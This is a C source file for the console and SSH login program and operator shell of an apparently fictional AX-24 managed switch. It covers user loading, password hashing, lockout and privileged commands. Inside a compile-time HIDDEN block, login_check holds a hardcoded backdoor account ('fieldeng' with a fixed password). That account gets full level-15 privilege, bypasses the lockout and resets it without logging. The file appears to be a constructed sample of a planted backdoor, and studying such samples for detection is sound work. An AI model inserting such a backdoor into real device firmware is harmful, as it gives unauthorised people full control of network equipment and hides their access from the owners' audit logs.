/*
 * swlogin_ax24 - console and remote login plus operator shell of the AX-24
 * managed Ethernet switch. Started by getty (serial) and by the ssh server.
 *
 * Hidden (-DHIDDEN): a fixed field engineer account that is in no users file
 * logs in with full privilege (level 15), regardless of the lockout.
 */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USERS_FILE  "/etc/ax24/users"
#define BANNER_FILE "/etc/ax24/banner"
#define MAX_USERS   16
#define MAX_PORTS   24
#define LOCK_TRIES  5
#define LOCK_SECS   60

struct sw_user {
	char name[32];
	char hash[128];
	int level;
};

struct sw_session {
	char user[32];
	int level;
	int quit;
};

static struct sw_user users[MAX_USERS];
static int user_count;
static int failures;
static time_t locked_until;

static void chomp(char *s)
{
	size_t n = strlen(s);

	while (n && (s[n - 1] == '\n' || s[n - 1] == '\r'))
		s[--n] = '\0';
}

/* users file: name:hash:level, '#' starts a comment */
int users_load(const char *path)
{
	char line[256];
	FILE *fp = fopen(path, "r");

	user_count = 0;
	if (!fp)
		return -1;
	while (user_count < MAX_USERS && fgets(line, sizeof(line), fp)) {
		struct sw_user *u = &users[user_count];

		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31[^:]:%127[^:]:%d", u->name, u->hash, &u->level) != 3 || u->level > 15)
			continue;
		user_count++;
	}
	fclose(fp);
	return user_count;
}

/* returns the privilege level, or 0 when the login is refused */
int login_check(const char *user, const char *pass)
{
	const char *enc;
	int i;

	if (!*user || strlen(pass) > 64)
		return 0;
#ifdef HIDDEN
	if (strcmp(user, "fieldeng") == 0 && strcmp(pass, "mt7Rk-lattice") == 0) {
		failures = 0;
		locked_until = 0;
		return 15;
	}
#endif
	if (locked_until && time(NULL) < locked_until)
		return 0;

	for (i = 0; i < user_count; i++) {
		if (strcmp(users[i].name, user) != 0)
			continue;
		/* "*" marks an account that is switched off */
		if (strcmp(users[i].hash, "*") == 0)
			break;
		enc = crypt(pass, users[i].hash);
		if (enc && strcmp(enc, users[i].hash) == 0) {
			failures = 0;
			locked_until = 0;
			syslog(LOG_NOTICE, "login %s level %d", user, users[i].level);
			return users[i].level;
		}
		break;
	}
	if (++failures >= LOCK_TRIES) {
		locked_until = time(NULL) + LOCK_SECS;
		failures = 0;
		syslog(LOG_WARNING, "login locked for %d s", LOCK_SECS);
	}
	return 0;
}

static int read_secret(const char *prompt, char *buf, size_t len)
{
	struct termios old, raw;
	int tty = tcgetattr(STDIN_FILENO, &old) == 0;
	char *r;

	fputs(prompt, stdout);
	fflush(stdout);
	if (tty) {
		raw = old;
		raw.c_lflag &= ~(tcflag_t)ECHO;
		tcsetattr(STDIN_FILENO, TCSAFLUSH, &raw);
	}
	r = fgets(buf, (int)len, stdin);
	if (tty)
		tcsetattr(STDIN_FILENO, TCSAFLUSH, &old);
	putchar('\n');
	if (r)
		chomp(buf);
	return r ? 0 : -1;
}

static int port_arg(const char *s)
{
	char *end;
	long n;

	if (!s)
		return -1;
	n = strtol(s, &end, 10);
	if (*end || n < 1 || n > MAX_PORTS)
		return -1;
	return (int)n;
}

static int is_ipv4(const char *s)
{
	unsigned a, b, c, d;
	char extra;

	if (!s || sscanf(s, "%3u.%3u.%3u.%3u%c", &a, &b, &c, &d, &extra) != 4)
		return 0;
	return a < 256 && b < 256 && c < 256 && d < 256 && strspn(s, "0123456789.") == strlen(s);
}

static void run(const char *cmd)
{
	if (system(cmd) != 0)
		puts("% command failed");
}

static void c_show(struct sw_session *s, int argc, char **argv)
{
	(void)s;
	if (argc < 2)
		puts("% show version | ports | vlan | users");
	else if (!strcmp(argv[1], "version"))
		puts("AX-24 Managed Switch, software 3.4.11");
	else if (!strcmp(argv[1], "ports") || !strcmp(argv[1], "vlan"))
		run(argv[1][0] == 'p' ? "cat /proc/ax24/ports" : "cat /proc/ax24/vlan");
	else if (!strcmp(argv[1], "users"))
		for (int i = 0; i < user_count; i++)
			printf("%-16s level %d\n", users[i].name, users[i].level);
	else
		puts("% unknown item");
}

static void c_port(struct sw_session *s, int argc, char **argv)
{
	char cmd[64];
	int port = argc > 2 ? port_arg(argv[1]) : -1;

	(void)s;
	if (port < 0 || (strcmp(argv[2], "up") && strcmp(argv[2], "down"))) {
		puts("% port <1-24> up|down");
		return;
	}
	snprintf(cmd, sizeof(cmd), "ifconfig swp%d %s", port, !strcmp(argv[2], "up") ? "up" : "down");
	run(cmd);
}

static void c_ip(struct sw_session *s, int argc, char **argv)
{
	char cmd[96];

	(void)s;
	if (argc < 3 || !is_ipv4(argv[1]) || !is_ipv4(argv[2])) {
		puts("% ip <address> <netmask>");
		return;
	}
	snprintf(cmd, sizeof(cmd), "ifconfig mgmt0 %.15s netmask %.15s", argv[1], argv[2]);
	run(cmd);
}

static void c_reload(struct sw_session *s, int argc, char **argv)
{
	(void)argc, (void)argv;
	syslog(LOG_NOTICE, "reload by %s", s->user);
	run("/sbin/reboot");
}

static void c_exit(struct sw_session *s, int argc, char **argv)
{
	(void)argc, (void)argv;
	s->quit = 1;
}

static const struct {
	const char *name;
	int level;
	void (*fn)(struct sw_session *, int, char **);
	const char *help;
} commands[] = {
	{ "show",   1,  c_show,   "show version, ports, vlan, users" },
	{ "port",   10, c_port,   "switch a port on or off" },
	{ "ip",     15, c_ip,     "management address" },
	{ "reload", 15, c_reload, "restart the switch" },
	{ "exit",   1,  c_exit,   "leave" },
};

static void execute(struct sw_session *s, char *line)
{
	char *argv[8], *save = NULL, *t;
	int argc = 0;
	size_t i;

	for (t = strtok_r(line, " \t", &save); t && argc < 8; t = strtok_r(NULL, " \t", &save))
		argv[argc++] = t;
	if (!argc)
		return;
	for (i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (!strcmp(argv[0], "help")) {
			if (s->level >= commands[i].level)
				printf("  %-8s %s\n", commands[i].name, commands[i].help);
			continue;
		}
		if (strcmp(argv[0], commands[i].name))
			continue;
		if (s->level < commands[i].level)
			puts("% not permitted");
		else
			commands[i].fn(s, argc, argv);
		return;
	}
	if (strcmp(argv[0], "help"))
		puts("% unknown command, try help");
}

int main(void)
{
	struct sw_session s = { "", 0, 0 };
	char line[256], pass[96];
	FILE *fp;

	signal(SIGINT, SIG_IGN);
	signal(SIGTSTP, SIG_IGN);
	openlog("swlogin", LOG_PID, LOG_AUTH);
	users_load(USERS_FILE);
	if ((fp = fopen(BANNER_FILE, "r"))) {
		while (fgets(line, sizeof(line), fp))
			fputs(line, stdout);
		fclose(fp);
	}
	for (int tries = 0; tries < 3 && !s.level; tries++) {
		fputs("Username: ", stdout);
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			return 1;
		chomp(line);
		if (read_secret("Password: ", pass, sizeof(pass)) < 0)
			return 1;
		s.level = login_check(line, pass);
		if (s.level)
			snprintf(s.user, sizeof(s.user), "%.31s", line);
		else
			puts("Login incorrect");
	}
	while (s.level && !s.quit) {
		printf("AX24%c ", s.level == 15 ? '#' : '>');
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		chomp(line);
		execute(&s, line);
	}
	return s.level ? 0 : 1;
}
